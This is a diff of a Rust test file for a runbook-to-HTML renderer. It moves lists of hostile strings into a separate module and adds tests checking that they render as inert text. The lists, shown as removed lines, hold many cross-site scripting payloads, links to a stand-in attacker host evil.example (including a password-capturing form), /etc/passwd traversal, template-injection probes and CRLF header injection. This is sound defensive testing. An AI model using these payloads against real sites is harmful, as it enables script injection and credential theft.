@@ -7,6 +7,8 @@
 #![allow(clippy::disallowed_methods, reason = "tests and tools use the disk")]
 
 mod every_kind;
+#[path = "hostile/words.rs"]
+mod words;
 
 use std::collections::BTreeSet;
 use std::sync::LazyLock;
@@ -18,144 +20,7 @@ use clearjar::source::SourceTree;
 use every_kind::Words;
 use rayon::prelude::*;
 use scraper::{ElementRef, Html};
-
-/// What somebody might try. Each is tried in every field by itself, and all of them together.
-const HOSTILE: &[&str] = &[
-    // Elements.
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<img src=x onerror=alert(1)>",
-    "<img/src/onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
-    "<iframe src=\"javascript:alert(1)\"></iframe>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\">",
-    "<object data=\"javascript:alert(1)\">",
-    "<embed src=\"javascript:alert(1)\">",
-    "<form action=\"https://evil.example\"><input name=p type=password></form>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<base href=\"https://evil.example/\">",
-    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
-    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
-    "<style>body{display:none}</style>",
-    "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<body onload=alert(1)>",
-    "<a href=\"javascript:alert(1)\">click</a>",
-    "<marquee onstart=alert(1)>",
-    "<template><script>alert(1)</script></template>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    // Ends of what the theme has opened.
-    "</title><script>alert(1)</script>",
-    "</script><script>alert(1)</script>",
-    "</style><script>alert(1)</script>",
-    "</textarea></select></option></pre></code></td></table></main></body><b>",
-    "--><script>alert(1)</script><!--",
-    "]]><script>alert(1)</script>",
-    "<!--",
-    "<!--symbols-->",
-    "<![CDATA[",
-    "<?php echo 1 ?>",
-    "<%= 7*7 %>",
-    // Attributes.
-    "\" onmouseover=\"alert(1)",
-    "' onmouseover='alert(1)",
-    "\" autofocus onfocus=alert(1) x=\"",
-    "` onmouseover=alert(1) `",
-    "x\" style=\"position:fixed;inset:0",
-    "\"><script>alert(1)</script>",
-    "'><script>alert(1)</script>",
-    "/><script>alert(1)</script>",
-    // Addresses.
-    "javascript:alert(1)",
-    "JaVaScRiPt:alert(1)",
-    "java\tscript:alert(1)",
-    "\u{1}javascript:alert(1)",
-    "vbscript:msgbox(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "//evil.example/x",
-    "\\\\evil.example\\share",
-    "file:///etc/passwd",
-    "../../../../etc/passwd",
-    // Entities and encodings.
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)",
-    "&#x6A;avascript:alert(1)",
-    "%3Cscript%3Ealert(1)%3C/script%3E",
-    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
-    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
-    // What templates, styles and spreadsheets would act on.
-    "{{ 7*7 }}",
-    "{% raw %}",
-    "{% include \"base.html\" %}",
-    "{# comment #}",
-    "${7*7}",
-    "#{7*7}",
-    "{{ __tera_context }}",
-    "{{ page | safe }}",
-    "[[device/device-1|<b onclick=alert(1)>x</b>]]",
-    "=HYPERLINK(\"https://evil.example\",\"x\")",
-    "expression(alert(1)); url(javascript:alert(1))",
-    // What cannot be seen.
-    "a\u{202e}gpj.exe",
-    "a\u{2066}b\u{2069}c",
-    "\u{200f}a\u{200e}",
-    "a\u{0}b\u{7}c\u{8}d",
-    "\u{1b}[31mred\u{1b}[0m",
-    "\u{9b}31m",
-    "a\u{2028}b\u{2029}c",
-    "\u{feff}a",
-    "\r\n\r\nSet-Cookie: x=1",
-];
-
-/// What Markdown could make of it; all of these stand in a text of their own.
-const HOSTILE_MARKDOWN: &[&str] = &[
-    "[x](javascript:alert(1))",
-    "[x](<javascript:alert(1)>)",
-    "[x](java\nscript:alert(1))",
-    "[x](&#106;avascript:alert(1))",
-    "[x](jav&#x09;ascript:alert(1))",
-    "[x](vbscript:a)",
-    "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "[x](//evil.example)",
-    "[x](\\\\\\\\evil.example\\\\a)",
-    "[x](file:///etc/passwd)",
-    "[x](https://a:b@evil.example)",
-    "<javascript:alert(1)>",
-    "![x](https://evil.example/x.png)",
-    "![x](javascript:alert(1))",
-    "![x](x\" onerror=\"alert(1))",
-    "[x](https://example.com \"t\\\" onmouseover=\\\"alert(1)\")",
-    "[r]: javascript:alert(1)\n\n[x][r]",
-    "[[x\" onclick=\"alert(1)]]",
-    "[[term/term-1#\" onclick=\"alert(1)|y]]",
-    "# <img src=x onerror=alert(1)> {#\"><script>}",
-    "1. step {#x\" onclick=\"alert(1)}",
-    "```\"><script>alert(1)</script>\nx\n```",
-    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
-    "| <script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | `<b>` |",
-    "[^1]\n\n[^1]: <script>alert(1)</script>",
-    "> [!NOTE]\n> <script>alert(1)</script>",
-    "- [ ] <input onfocus=alert(1) autofocus>",
-    "<b>*a*</b>",
-    "<div>\n\n*a*\n\n</div>",
-    "`<script>`",
-    "\\<script>alert(1)\\</script>",
-    "&lt;script&gt;",
-    "~~<s onclick=x>~~",
-];
-
-/// All that Markdown may make, so that its elements are known as harmless ones.
-const HARMLESS_MARKDOWN: &str = "\
-Plain words, *leaning*, **bold**, ~~gone~~, `code`, [a page](https://example.com), [its title](https://example.com \"Title\"),\n\
-[[term/term-1]] and [[term/term-1|a term]], <it@example.com>, ![a plan](files/plan.txt)  \nand a new line.\n\n\
-# One\n\n## Two\n\n### Three\n\n#### Four\n\n##### Five\n\n###### Six\n\n\
-1. First. {#first}\n2. Second.\n\n   More of it.\n\n- a\n- b\n  - c\n\n- [ ] open\n- [x] done\n\n\
-> Quoted.\n\n> [!NOTE]\n> Noted.\n\n> [!TIP]\n> A tip.\n\n> [!IMPORTANT]\n> Weighty.\n\n> [!WARNING]\n> Beware.\n\n> [!CAUTION]\n> Care.\n\n\
-| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n\nA note.[^n]\n\n[^n]: At the foot.\n\n---\n\n\
-```\nplain\n```\n\n```sh\n# comment\necho \"$HOME\" | grep -v 'x' 12\n```\n\n```html\n<a href=\"x\">1</a>\n```\n\n\
-Term `x` [not there](files/not-there.txt) and [refused](javascript:x) \u{202e}turned ![refused](https://example.com/x.png) [[nowhere]].\n\n5. Fifth.\n";
+use words::{HARMLESS_MARKDOWN, HOSTILE, HOSTILE_MARKDOWN};
 
 /// The one place that calls the program.
 fn artifacts(tree: &SourceTree) -> Artifacts {
@@ -201,14 +66,15 @@ fn vocabulary(artifacts: &Artifacts) -> BTreeSet<String> {
     })
 }
 
-static HARMLESS: LazyLock<BTreeSet<String>> = LazyLock::new(|| {
-    let tree = every_kind::runbook(&mut |words| match words {
+static HARMLESS: LazyLock<BTreeSet<String>> = LazyLock::new(|| vocabulary(&artifacts(&harmless())));
+
+fn harmless() -> SourceTree {
+    every_kind::runbook(&mut |words| match words {
         // What cannot be seen is spelt out in an element of its own.
         Words::Text => "Plain words \u{202e}".to_owned(),
         Words::Markdown => HARMLESS_MARKDOWN.to_owned(),
-    });
-    vocabulary(&artifacts(&tree))
-});
+    })
+}
 
 fn look_at(tree: &SourceTree) {
     let artifacts = artifacts(tree);
@@ -322,4 +188,75 @@ fn what_templates_would_act_on_is_shown_as_it_is_written() {
     let page = Html::parse_document(page);
     let text: String = page.root_element().text().collect();
     assert!(text.matches(words).count() > 20, "{text}");
+}
+
+/// Returns runbooks in which every field says the next of `list`, as many as it takes for each to have
+/// been said `times` times, and at least one.
+fn runbooks(list: &[String], times: usize) -> Vec<SourceTree> {
+    let mut said = 0;
+    let mut trees = Vec::new();
+    while trees.is_empty() || said < list.len() * times {
+        // Another field says it the next time.
+        said += 7 * trees.len();
+        trees.push(every_kind::runbook(&mut |_| {
+            said += 1;
+            list[said % list.len()].clone()
+        }));
+    }
+    trees
+}
+
+/// How often each string is tried: in other fields each time.
+fn times() -> usize {
+    std::env::var("CLEARJAR_HOSTILE_TIMES").map_or(1, |times| times.parse().unwrap())
+}
+
+#[test]
+fn strings_that_have_broken_other_programs_stay_words() {
+    let list = words::naughty();
+    let trees = runbooks(&list, times());
+    trees.iter().for_each(look_at);
+    println!("hostile strings: {} of others in {} sites", list.len(), trees.len());
+}
+
+#[test]
+fn words_put_together_from_ways_out_and_what_could_run_stay_words() {
+    let list = words::put_together();
+    // A part of them, another one for each place of the list; all at full strength.
+    let some: Vec<String> = match times() {
+        1 => list.iter().step_by(5).cloned().collect(),
+        _ => list.clone(),
+    };
+    let trees = runbooks(&some, times());
+    trees.iter().for_each(look_at);
+    println!("hostile strings: {} put together in {} sites", some.len(), trees.len());
+}
+
+/// What browsers walk in `tests/browser/hostile_text.test.mjs`.
+#[test]
+fn runbooks_of_hostile_words_are_there_for_browsers() {
+    let folder = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("hostile");
+    let all: Vec<String> = HOSTILE.iter().map(|it| (*it).to_owned()).collect();
+    let all = [all, words::naughty(), words::put_together()].concat();
+    let mut said = 0;
+    let hostile = every_kind::runbook(&mut |words| {
+        said += 13;
+        match words {
+            Words::Text => all[said % all.len()].clone(),
+            Words::Markdown => {
+                let some = (0..12).map(|more| all[(said + 97 * more) % all.len()].as_str());
+                [some.collect::<Vec<_>>().join("\n\n"), HOSTILE_MARKDOWN.join("\n\n")].join("\n\n")
+            }
+        }
+    });
+    for (name, tree) in [("hostile", hostile), ("harmless", harmless())] {
+        for file in tree.files() {
+            let path = folder.join(name).join(&file.path);
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            std::fs::write(path, file.as_text().unwrap()).unwrap();
+        }
+    }
+    let words =
+        std::fs::read_to_string(folder.join("hostile/records/devices/device-0.toml")).unwrap();
+    assert!(words.contains("alert(1)"));
 }
